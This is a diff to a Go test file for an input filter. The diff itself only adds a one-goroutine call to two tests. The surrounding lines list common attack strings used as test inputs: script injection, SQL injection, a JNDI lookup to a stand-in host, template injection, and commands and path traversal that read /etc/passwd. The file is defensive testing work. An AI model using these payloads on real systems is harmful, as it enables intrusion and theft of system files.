@@ -86,6 +86,7 @@ func doubts(jm *Judgement) (text string) {
 // TestWhatIsTriedFirstIsBlockedInEveryField sends attacks as the whole value
 // of a field, alone and behind a short value, wherever a field can be.
 func TestWhatIsTriedFirstIsBlockedInEveryField(t *testing.T) {
+	oneGoroutine(t)
 	j := balancedJudge(t)
 	tried := 0
 	for _, attack := range firstTried {
@@ -106,6 +107,7 @@ func TestWhatIsTriedFirstIsBlockedInEveryField(t *testing.T) {
 
 // TestAttacksAmongWordsAreBlocked hides attacks in texts.
 func TestAttacksAmongWordsAreBlocked(t *testing.T) {
+	oneGoroutine(t)
 	j := balancedJudge(t)
 	for _, attack := range []string{"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'; DROP TABLE users; --", "' UNION SELECT null, version() -- -", "' AND SLEEP(5) AND 'x'='x",
 		"${jndi:ldap://evil.test/a}", "{{7*7}}", "; cat /etc/passwd", "$(cat /etc/passwd)", "../../../etc/passwd", "' or '1'='1"} {
